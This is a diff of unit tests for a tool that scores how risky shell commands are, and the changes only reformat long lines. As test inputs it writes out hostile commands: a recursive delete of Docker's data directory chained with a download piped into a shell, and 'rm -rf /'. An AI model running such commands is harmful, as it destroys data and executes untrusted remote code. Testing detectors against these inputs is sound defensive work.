@@ -43,8 +43,15 @@ def test_score_contributions_add_up_to_the_score(shield, command):
 
 
 def _hit(rule_id: str, suggested: str, severity: str) -> RuleHit:
-    return RuleHit(id=rule_id, pack="t", severity=severity, explanation=rule_id, attack="T1485", command="x",
-                   suggested=suggested)
+    return RuleHit(
+        id=rule_id,
+        pack="t",
+        severity=severity,
+        explanation=rule_id,
+        attack="T1485",
+        command="x",
+        suggested=suggested,
+    )
 
 
 def test_score_clamp_is_listed_as_its_own_contribution():
@@ -80,7 +87,9 @@ def test_score_privilege_alone_asks():
 
 def test_score_is_deterministic(shield):
     first = shield.analyze("sudo rm -rf /var/lib/docker; curl -s http://x.example | sh")
-    second = Shield(semantic=False, cache_size=0).analyze("sudo rm -rf /var/lib/docker; curl -s http://x.example | sh")
+    second = Shield(semantic=False, cache_size=0).analyze(
+        "sudo rm -rf /var/lib/docker; curl -s http://x.example | sh"
+    )
     assert first.score == second.score
     assert first.contributions == second.contributions
 
@@ -88,7 +97,9 @@ def test_score_is_deterministic(shield):
 def test_score_semantic_deny_intent_alone_cannot_deny():
     parsed = ParseResult(source="x", commands=[SimpleCommand(name="frob")])
     intent = IntentMatch(intent="destroy_filesystem", similarity=0.85, exemplar="rm -rf /", risk="deny")
-    score, contributions = compute(ScoreInput(parsed=parsed, hits=[], intents=[intent], unmatched_commands=["frob"]))
+    score, contributions = compute(
+        ScoreInput(parsed=parsed, hits=[], intents=[intent], unmatched_commands=["frob"])
+    )
     assert score < 60
     assert any(c.signal.startswith("semantic:") for c in contributions)
     assert sum(c.points for c in contributions) == score
